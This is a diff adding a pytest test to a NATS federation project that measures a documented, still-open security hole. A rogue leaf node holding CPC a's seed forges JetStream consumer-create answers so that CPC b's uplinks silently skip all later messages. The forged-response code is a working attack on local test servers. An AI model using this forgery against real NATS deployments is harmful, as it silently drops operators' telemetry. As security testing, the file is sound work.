@@ -14,9 +14,12 @@ from __future__ import annotations
 import asyncio
 import contextlib
 import json
+import os
 import secrets
+import signal
 import socket
-from collections.abc import Iterator
+import time
+from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import nats
@@ -28,7 +31,7 @@ from nats.js.api import AckPolicy, ConsumerConfig, DeliverPolicy, StorageType, S
 from natstools import ROGUE_USER, rogue_leaf_node
 
 from dsxbus import subjects, topology
-from dsxbus.local import clients, servers
+from dsxbus.local import clients, runner, servers
 from dsxbus.local.state import Federation
 
 FILLER_WAIT = 0.2
@@ -318,3 +321,104 @@ def test_known_hole_a_forged_flow_control_request_on_cpc_a_uplink_has_the_csc_pu
     the test's own is deleted on each). This measures the hole; it fails once the hole is closed."""
     found = asyncio.run(_forge_flow_control(federation, rogue_leaf_a, target))
     assert found == {"CPC b got": cpc_b_got, "probe streams": probe_streams}
+
+
+@pytest.fixture(scope="module")
+def cut_federation(
+    tmp_path_factory: pytest.TempPathFactory, make_project: Callable[[Path], Path], nats_version: str
+) -> Iterator[Federation]:
+    """Its own federation (CSC, CPC a, CPC b): the test below stops CPC b and cuts its uplinks for good."""
+    root = tmp_path_factory.mktemp("forgery")
+    project = make_project(root / "project")
+    with runner.running_federation(project, root / "run", ["csc", "cpc-a", "cpc-b"], say=lambda _: None) as running:
+        yield running
+
+
+CUT_AT = 1_000_000
+"""The stream sequence a forged consumer-create answer claims was delivered: the uplink resumes after it."""
+
+
+def _reply_subjects(rogue: servers.Server) -> set[str]:
+    """The `$JSC.R.` replies the CSC announces to a leaf holding CPC a's seed (it may publish them)."""
+    leafz = servers.monitor(rogue, "leafz?subs=1") or {}
+    announced = (s for leaf in leafz.get("leafs") or [] for s in leaf.get("subscriptions_list") or [])
+    return {s for s in announced if s.startswith("$JSC.R.")}
+
+
+async def _answer(rogue: servers.Server, replies: set[str]) -> None:
+    forged = {
+        "type": "io.nats.jetstream.api.v1.consumer_create_response",
+        "stream_name": "$MQTT_msgs",
+        "name": "forged",
+        "created": "2026-01-01T00:00:00Z",
+        "config": {"ack_policy": "none"},
+        "delivered": {"consumer_seq": 0, "stream_seq": CUT_AT},
+        "ack_floor": {"consumer_seq": 0, "stream_seq": 0},
+        "num_ack_pending": 0,
+        "num_redelivered": 0,
+        "num_waiting": 0,
+        "num_pending": 0,
+    }
+    attacker = await nats.connect(rogue.url("client"), user=ROGUE_USER[0], password=ROGUE_USER[1])
+    try:
+        for reply in replies:
+            await attacker.publish(reply, json.dumps(forged).encode())
+        await attacker.flush()
+    finally:
+        await attacker.close()
+
+
+async def _after_the_cut(federation: Federation, token: str) -> dict[str, object]:
+    async with clients.opened(federation) as c:
+        victim = c.mqtt_sink(federation.csc, "cpc/b/#", 1, 0)
+        publisher = c.mq(federation.cluster("b"))
+        for n in range(3):
+            await asyncio.to_thread(publisher.publish, f"sensor/cut/{n}", f"{token}-{n}".encode(), 1, True)
+        # Positive control: the CSC and its uplinks otherwise work (CPC a's QoS 1 telemetry arrives).
+        own = c.mqtt_sink(federation.csc, "cpc/a/sensor/cut", 1, 1)
+        cpc_a = clients.mqtt_publisher(c.mq(federation.cluster("a")), "sensor/cut", 1)
+        control = await clients.deliver("cpc-a q1 sensor/cut", cpc_a, [own])
+        await asyncio.sleep(CUT_WATCH)
+        csc = await c.nc(federation.csc, "CSC")
+        stored = [
+            (await csc.jsm().stream_info(topology.cpc_uplink_stream(kind, "b"))).state.messages
+            for kind in topology.SOURCED_KINDS
+        ]
+        return {
+            "control": control.ok,
+            "CPC b's uplinks hold": stored,
+            "the CSC's cpc/b/# got": [d.payload for d in victim.got if d.payload.startswith(token.encode())],
+        }
+
+
+CUT_WATCH = 3.0
+"""How long CPC b's messages are given to reach the CSC after the cut (unharmed, they take ~50 ms; measured once
+with 60 s: none arrived)."""
+
+
+def test_known_hole_a_forged_consumer_create_answer_cuts_cpc_b_uplinks_from_the_csc(
+    tmp_path: Path, cut_federation: Federation
+) -> None:
+    """NOT CLOSED (docs/threat-model.md, "What remains"): the CSC's uplinks wait for their consumer-create answers
+    on `$JSC.R.<random>`, which every CPC's leaf may publish and the CSC announces to every leaf. While CPC b does
+    not answer (here: its server paused until the uplinks' health check re-creates their consumers), CPC a answers
+    first with a consumer that claims CUT_AT delivered: the uplinks then resume after that sequence, so none of CPC
+    b's next QoS 1 or retained messages reaches the CSC (not a delay: measured, none within 60 s)."""
+    federation = cut_federation
+    cpc_b = federation.cluster("b").main
+    token = f"cut-{secrets.token_hex(4)}"
+    with rogue_leaf_node(tmp_path, federation, federation.keys["cpc-a"].leaf["CSC"].seed) as rogue:
+        servers.wait_for(lambda: servers.leaf_count(rogue) or None, 5, "the rogue leaf to connect")
+        before = _reply_subjects(rogue)
+        os.kill(cpc_b.pid, signal.SIGSTOP)
+        try:
+            new = lambda: (_reply_subjects(rogue) - before) or None  # noqa: E731
+            servers.wait_for(new, 15, "the CSC to ask paused CPC b for new uplink consumers")
+            time.sleep(1.0)  # the other uplink asks within the same health check
+            replies = _reply_subjects(rogue) - before
+            asyncio.run(_answer(rogue, replies))
+        finally:
+            os.kill(cpc_b.pid, signal.SIGCONT)
+        found = asyncio.run(_after_the_cut(federation, token))
+    assert len(replies) == len(topology.SOURCED_KINDS)
+    assert found == {"control": True, "CPC b's uplinks hold": [0, 0], "the CSC's cpc/b/# got": []}
